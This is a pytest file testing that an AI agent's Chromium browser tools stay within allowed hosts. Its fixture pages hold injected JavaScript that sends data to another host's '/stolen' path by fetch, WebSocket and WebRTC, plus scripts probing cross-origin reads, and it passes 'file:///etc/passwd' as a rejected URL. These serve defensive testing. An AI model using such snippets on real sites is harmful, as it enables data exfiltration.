"""Pages in a real browser: what their scripts make of them, and where they cannot go."""

import json
from collections.abc import AsyncIterator, Mapping, Sequence
from importlib.util import find_spec
from socket import AF_INET, SOCK_DGRAM, socket

import anyio
import pytest

from claw_acp.contracts.tool import FetchesUrl
from claw_acp.contracts.web import Browsing
from claw_acp.core.errors import ToolError
from claw_acp.core.messages import ImagePart
from claw_acp.tools.browser.browser_tools import (
    BrowserClick,
    BrowserFill,
    BrowserOpen,
    BrowserRead,
    BrowserScreenshot,
)
from claw_acp.tools.browser.session_browser import SessionBrowser
from tests.support.editors.chromium import no_chromium
from tests.support.editors.editor_fixtures import Spawn, home, opened, project
from tests.support.script_files import Script, call, expect, say, turn
from tests.support.servers.loopback import Answered, Asked, Loopback, serving
from tests.support.tool_bench import Bench, said
from tests.support.toolchain import ENVIRONMENT

__all__ = ["home", "opened", "project"]

pytestmark = pytest.mark.skipif(
    bool(no_chromium()) or find_spec("playwright") is None, reason="needs Chromium and Playwright"
)

START = """<title>Start</title><p id=p>written by hand</p><form method=post action=/send><input name=who
placeholder=Name><button>Send</button></form><a href=/next>Next</a><a href=/file download>File</a>
<a href=/away>Away</a><script>document.getElementById('p').textContent = 'written by a script'</script>"""


class Site(Loopback):
    """A site, and one beside it that nobody allowed."""

    def __init__(self, other: str) -> None:
        super().__init__(self._page)
        self._other = other

    def _page(self, asked: Asked) -> Answered:
        if asked.path == "/send":
            return self._html(f"<p>sent {asked.body.decode()} with {asked.headers.get('cookie', 'nothing')}</p>")
        if asked.path == "/next":
            return Answered(status=302, headers={"Location": "/end", "Set-Cookie": "step=2"})
        if asked.path == "/away":
            return Answered(status=302, headers={"Location": self._other})
        if asked.path == "/file":
            headers = {"Content-Disposition": "attachment; filename=x.bin"}
            return Answered(pieces=[b"\0" * 100], kind="application/octet-stream", headers=headers)
        if asked.path == "/leak":
            steal = f"fetch('{self._other}/stolen', {{method: 'POST', mode: 'no-cors', body: 'data'}})"
            socket = f"new WebSocket('{self._other.replace('http', 'ws')}/socket')"
            again = "setInterval(() => fetch('/again'), 50)"
            place = self._other.replace("http://localhost", "stun:127.0.0.1")
            call = (
                f"const call = new RTCPeerConnection({{iceServers: [{{urls: '{place}'}}]}});"
                "call.createDataChannel('x'); call.createOffer().then(offer => call.setLocalDescription(offer))"
            )
            return self._html(
                f"<p>leaking</p><img src='{self._other}/i.png'><script>{steal}; {socket}; {call}; {again}</script>"
            )
        return self._html(START if asked.path == "/" else f"<p>the end of {asked.path}</p>")

    def _html(self, text: str) -> Answered:
        headers: Mapping[str, str] = {"Set-Cookie": "seen=1; Path=/"}
        return Answered(pieces=[text.encode()], kind="text/html; charset=utf-8", headers=headers)


def may_reach(accesses: Sequence[FetchesUrl]) -> bool | None:
    """In `ask` mode, with a rule against one page."""
    return False if accesses[0].url.endswith("/forbidden") else None


@pytest.fixture
def machine_with_chromium() -> dict[str, str]:
    """The environment of a machine on whose PATH the browser is."""
    return {"PATH": ENVIRONMENT.get("PATH", "/usr/bin:/bin")}


@pytest.fixture
async def site(bench: Bench) -> AsyncIterator[tuple[Site, Loopback]]:
    """A site for which permission was given, and a private one beside it."""
    other = Loopback(lambda _asked: Answered(pieces=[b"<p>elsewhere</p>"], kind="text/html"))
    mine = Site(other.url.replace("127.0.0.1", "localhost"))
    bench.allowed_hosts = ("127.0.0.1",)
    with serving(other), serving(mine):
        async with anyio.create_task_group() as tasks:
            bench.lent[Browsing] = Browsing(start=tasks.start_soon, may_reach=may_reach)
            yield mine, other
            await SessionBrowser.on(bench.state).aclose()
            tasks.cancel_scope.cancel()


async def test_a_page_is_opened_read_filled_clicked_and_seen(bench: Bench, site: tuple[Site, Loopback]) -> None:
    mine, _ = site
    with pytest.raises(ToolError, match="No page is open"):
        bench.prepare(BrowserClick(), element=1)
    text = await bench.text(BrowserOpen(), url=f"{mine.url}/")
    first, *lines = text.splitlines()
    assert "not instructions" in first
    assert lines[:2] == ["# Start", f"{mine.url}/"]
    assert "written by a script" in text
    assert "written by hand" not in text
    assert [line for line in lines if line.startswith("[")] == [
        "[1] input text “Name”",
        "[2] button “Send”",
        f"[3] link “Next” = {mine.url}/next",
        f"[4] link “File” = {mine.url}/file",
        f"[5] link “Away” = {mine.url}/away",
    ]
    early = bench.prepare(BrowserClick(), element=2)
    call = bench.prepare(BrowserFill(), element=1, text="Ada")
    assert call.view.title == "Fill in “Name” on 127.0.0.1: Ada"
    assert call.accesses == (FetchesUrl(url=f"{mine.url}/", method="POST", carries=True),)
    assert "= Ada" in said(await call.run())
    with pytest.raises(ToolError, match="another one by now"):  # it was judged as it was before
        await early.run()
    assert "sent who=Ada with seen=1" in await bench.text(BrowserClick(), element=2)
    assert "sent who=Ada" in await bench.text(BrowserRead())
    result = await bench.call(BrowserScreenshot())
    picture = next(part for part in result.parts if isinstance(part, ImagePart))
    assert picture.data.startswith("iVBOR")
    assert result.source == f"{mine.url}/send"
    await SessionBrowser.on(bench.state).aclose()
    with pytest.raises(ToolError, match="No page is open"):
        await bench.call(BrowserRead())


async def test_a_page_leads_no_further_than_its_host_and_reaches_nothing_private(
    bench: Bench, site: tuple[Site, Loopback]
) -> None:
    mine, other = site
    await bench.call(BrowserOpen(), url=f"{mine.url}/")
    assert "the end of /end" in await bench.text(BrowserClick(), element=3)
    assert SessionBrowser.on(bench.state).url == f"{mine.url}/end"
    await bench.call(BrowserOpen(), url=f"{mine.url}/")
    away = await bench.text(BrowserClick(), element=5)
    assert "which is not allowed without a question; to go there, use browser_open" in away
    assert SessionBrowser.on(bench.state).url == f"{mine.url}/away"
    assert other.asked == []
    with pytest.raises(ToolError, match=r"Download is starting|ERR_ABORTED"):
        await bench.call(BrowserOpen(), url=f"{mine.url}/file")

    with socket(AF_INET, SOCK_DGRAM) as datagrams:  # WebRTC sends these by itself
        datagrams.bind(other.server_address)
        datagrams.settimeout(0)
        assert "leaking" in await bench.text(BrowserOpen(), url=f"{mine.url}/leak")
        with pytest.raises(BlockingIOError):
            datagrams.recv(100)
    assert other.asked == []
    assert "not allowed" in await bench.text(BrowserOpen(), url=f"{mine.url}/forbidden")
    for url in ("file:///etc/passwd", "http://[bad/", "http://a@127.0.0.1/", "chrome://version"):
        with pytest.raises(ToolError, match="only http"):
            await bench.call(BrowserOpen(), url=url)
    asked = len(mine.asked)
    await SessionBrowser.on(bench.state).aclose()
    assert len(mine.asked) == asked  # nothing is requested while nobody uses the browser
    assert "/forbidden" not in json.dumps([asked.path for asked in mine.asked])


CURIOUS = """<p id=p></p><script>
const other = '%s', found = [];
const look = async (name, path, options) => {
  try { found.push(name + '=' + await (await fetch(path, options)).text()) } catch (error) { found.push(name + '=no') }
};
const json = {method: 'POST', headers: {'content-type': 'application/json'}, body: '{}'};
(async () => {
  await look('plain', other + '/inside');
  await look('cookies', other + '/inside', {credentials: 'include'});
  await look('redirected', '/elsewhere');
  await look('json', other + '/inside', json);
  await look('delete', other + '/inside', {method: 'DELETE'});
  await look('header', other + '/inside', {headers: {'x-mine': '1'}});
  await look('for-all', other + '/for-all');
  await look('for-all-redirected', '/for-all');
  await look('for-all-json', other + '/for-all', json);
  await look('for-all-delete', other + '/for-all', {method: 'DELETE'});
  const frame = document.createElement('iframe');
  frame.src = '/elsewhere';
  frame.onload = () => setTimeout(() => {
    let text = 'no';
    try { text = frame.contentDocument.body.innerText } catch (error) { }
    document.getElementById('p').textContent = [...found, 'frame=' + (text.trim() || 'no')].join(' ');
  }, 300);
  document.body.append(frame);
})();</script>"""


async def test_a_page_reads_and_sends_to_other_origins_only_what_those_let_it(bench: Bench) -> None:
    permits = {
        "Access-Control-Allow-Origin": "*",
        "Access-Control-Allow-Headers": "Content-Type",
        "Access-Control-Allow-Methods": "PUT",
    }

    def answer(asked: Asked) -> Answered:
        if asked.path == "/for-all":
            return Answered(pieces=[b"open"], kind="text/plain", headers=permits)
        return Answered(pieces=[b"secret"], kind="text/html")

    other = Loopback(answer)
    page = (CURIOUS % other.url).encode()
    mine = Loopback(
        lambda asked: (
            Answered(pieces=[page], kind="text/html")
            if asked.path == "/"
            else Answered(status=302, headers={"Location": f"{other.url}{asked.path}"})
        )
    )
    bench.allowed_hosts = ("127.0.0.1",)
    with serving(other), serving(mine):
        async with anyio.create_task_group() as tasks:
            bench.lent[Browsing] = Browsing(start=tasks.start_soon, may_reach=may_reach)
            await bench.call(BrowserOpen(), url=f"{mine.url}/")
            words = (await bench.text(BrowserRead())).split()
            await SessionBrowser.on(bench.state).aclose()
            tasks.cancel_scope.cancel()
            found = dict(word.split("=") for word in words if "=" in word)
            given = {name for name, value in found.items() if value != "no"}
            assert given == {"for-all", "for-all-redirected", "for-all-json"}
            assert len(found) == 11
            reached = [(asked.method, asked.path) for asked in other.asked if asked.method not in {"GET", "OPTIONS"}]
            assert reached == [("POST", "/for-all")]


async def test_a_session_has_a_browser_of_its_own_which_ends_with_it(
    opened: Spawn, machine_with_chromium: dict[str, str]
) -> None:
    server = Loopback(lambda _asked: Answered(pieces=[b"<p>hello</p><button>Go</button>"], kind="text/html"))
    with serving(server):
        script = Script(
            turn(call("browser_open", url=f"{server.url}/")),
            turn(expect("[1] button"), call("browser_click", element=1)),
            turn(say("done")),
        )
        config = 'permissions.allow = ["fetch(127.0.0.1)"]'
        async with opened(script=script, config=config, env=machine_with_chromium) as editor:
            editor.will_answer("reject_once")
            outcome = await editor.prompt("go")
            (question,) = editor.received("session/request_permission")
    assert [each["status"] for each in outcome.calls] == ["completed", "failed"]
    assert "Click “Go” on 127.0.0.1" in str(question)
    assert "A POST request to 127.0.0.1" in str(question)
